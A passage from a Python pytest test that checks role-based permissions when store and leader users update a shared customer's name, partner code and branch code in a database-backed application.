    g01_partner = db.session.execute(select(Partner).where(Partner.code == "G01-0003")).scalar_one()
    c = Customer(code="C8888888", name="공동고객", branch_id=b001.id, partner_id=g01_partner.id)
    db.session.add(c)
    db.session.commit()
    store1, leader1 = find_user("store1@example.com"), find_user("leader1@example.com")
    assert update_customer(store1, c, {"name": "공동고객2"})
    with pytest.raises(CustomerError) as err:
        update_customer(store1, c, {"partner_code": ""})
    assert "partner_code" in err.value.errors
    db.session.rollback()
    with pytest.raises(CustomerError) as err:
        update_customer(leader1, c, {"branch_code": ""})
    assert "branch_code" in err.value.errors
    db.session.rollback()
    db.session.expire_all()
    c = db.session.get(Customer, c.id)
    assert c.partner_id == g01_partner.id and c.branch_id == b001.id
    update_customer(leader1, c, {"partner_code": "G01-0002"})  # within the leader's own group: allowed
    db.session.commit()
    assert db.session.get(Partner, c.partner_id).code == "G01-0002"
